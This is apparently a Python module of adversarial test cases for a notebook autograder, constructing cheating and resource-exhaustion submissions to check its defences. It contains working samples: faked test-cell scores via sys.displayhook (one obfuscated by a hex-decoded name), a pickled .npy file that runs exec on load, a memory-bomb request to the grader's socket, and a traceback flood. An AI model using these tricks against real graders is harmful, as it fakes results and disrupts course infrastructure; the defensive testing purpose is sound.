"""Hostile submissions, round three: numbers the kernel shows as a test cell's result, code carried in a data file,
and the grader's memory and disk (requests and errors that decode or pile up into far more than they weigh).

One class of attack per group; each case is an example of its class (see docs/threat_model.md).
"""

from __future__ import annotations

import io

from . import ASSIGNMENT, WRONG_SOFTMAX, Case, Context, answered, submission, with_extra

#: A function that shows ``points`` as its test cell's result, then fails: no work at all (the grader gives nothing).
_STUB = '''import sys

def {name}(*args, **kwargs):
    sys.displayhook({points})
    raise NotImplementedError
'''
#: A softmax right on inputs of up to 2 rows (the visible tests') and wrong on larger ones: its honest score is what
#: the hidden cases it passes earn (the control ``honest_partial_softmax``).
_PARTIAL = '''def softmax(x):
    e = np.exp(x - np.max(x, axis=1, keepdims=True))
    out = e / np.sum(e, axis=1, keepdims=True)
    return out if x.shape[0] <= 2 else out + 0.01
'''
#: The same, first showing "2.0" as the cell's result, displayhook reached without naming it (what the scan flags).
_STEALTH = '''import operator, sys
_show = operator.attrgetter(bytes.fromhex("646973706c6179686f6f6b").decode())
_state = {"shown": False}

''' + _PARTIAL.replace('''    e = np.exp(''', '''    if not _state["shown"] and x.shape[0] > 2:
        _state["shown"] = True
        _show(sys)(2.0)
    e = np.exp(''', 1)
_PAYLOAD = "import numpy as np\n" + _STEALTH + '''
from IPython import get_ipython
get_ipython().user_ns["softmax"] = softmax
'''


class _Runs:
    """Pickled, it runs ``code`` when loaded (``np.load(..., allow_pickle=True)``)."""

    def __init__(self, code: str):
        self.code = code

    def __reduce__(self):
        return (exec, (self.code,))


def _results() -> list[Case]:
    """A number shown as a test cell's result: nbgrader reads the first one as the cell's points, ahead of an error."""
    def pushed(ctx: Context) -> dict[str, bytes]:
        code = "import sys\n" + WRONG_SOFTMAX.replace("    e = np.exp(x)\n", "    e = np.exp(x)\n    sys.displayhook(2.0)\n")
        return submission(answered(ctx, {"softmax": code}, base="wrong_softmax"))

    def no_work(ctx: Context) -> dict[str, bytes]:
        points = {g.removeprefix("test_"): p for g, p in ctx.points.items()}
        stubs = {name: _STUB.format(name=name, points=float(p) * (1000 if name == "sigmoid" else 1))
                 for name, p in points.items() if name in ctx.reference}
        return submission(answered(ctx, stubs, base="stub"))

    return [
        Case("honest_partial_softmax", "control", "a softmax right on inputs of 2 rows only (partly right)",
             lambda ctx: submission(answered(ctx, {"softmax": _PARTIAL})), honest="honest_partial_softmax"),
        Case("result_shown_by_softmax", "cheat", "the failing softmax calls sys.displayhook(2.0) in its test cell",
             pushed, honest="wrong_softmax", flags=("kernel_result",)),
        Case("result_shown_stealthily", "cheat", "a softmax wrong on the hidden inputs only shows 2.0 as the "
             "cell's result, displayhook reached by a decoded name", lambda ctx: submission(answered(
                 ctx, {"softmax": _STEALTH})), honest="honest_partial_softmax", flags=("kernel_result",)),
        Case("results_without_work", "cheat", "every function shows its cell's points (sigmoid 1000 times them: "
             "more than the cell's maximum) and raises", no_work, honest="zero", flags=("kernel_result",)),
    ]


def _data_files() -> list[Case]:
    """Code carried in a file handed in beside the notebook, run by loading it."""
    def pickled(ctx: Context) -> dict[str, bytes]:
        import numpy as np

        carrier = np.empty(1, dtype=object)
        carrier[0] = _Runs(_PAYLOAD)
        data = io.BytesIO()
        np.save(data, carrier, allow_pickle=True)
        notebook = answered(ctx, {"softmax": "weights = np.load('weights.npy', allow_pickle=True)\n"})
        return {**submission(notebook), f"{ASSIGNMENT}/weights.npy": data.getvalue()}

    return [
        Case("code_in_a_data_file", "cheat", "weights.npy is a pickle that defines a softmax showing 2.0 as its "
             "cell's result, loaded with allow_pickle=True", pickled, honest="honest_partial_softmax",
             flags=("kernel_result", "suspicious_code")),
    ]


def _grader_memory() -> list[Case]:
    """What decodes or piles up into far more than it weighs, in the grader's process."""
    bomb = '''
import os, socket, struct
_body = b'{"op":"judge","assignment":"a","function":"f","key":"k","pad":[' + b'{},' * 2_500_000 + b'{}]}'
_s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
_s.settimeout(60)
try:
    _s.connect(os.environ["COURSE_GRADER_SOCKET"])
    _s.sendall(struct.pack(">I", len(_body)) + _body)
    _s.recv(100)
except Exception as error:
    print(type(error).__name__)
del _body
'''
    flood = '''def L1(yhat, y):
    shell = get_ipython()
    if not shell.user_ns.get("_flooded"):
        shell.user_ns["_flooded"] = True
        for _ in range(3000):
            shell._showtraceback(ValueError, "v" * 19000, ["t" * 19000])
    return np.sum(np.abs(y - yhat))
'''
    return [
        Case("request_of_millions_of_values", "bomb", "a 7.5 MB request to the grader's socket of 2.5 million "
             "empty objects (decoded: about 27 times that)", lambda ctx: submission(with_extra(ctx, "L1", bomb)),
             flags=("suspicious_code",)),
        Case("error_flood", "bomb", "3,000 errors of 38 kB shown while L1's test runs (past the output limit)",
             lambda ctx: submission(answered(ctx, {"L1": flood})), flags=("output_limit",)),
    ]


def cases() -> list[Case]:
    return _results() + _data_files() + _grader_memory()
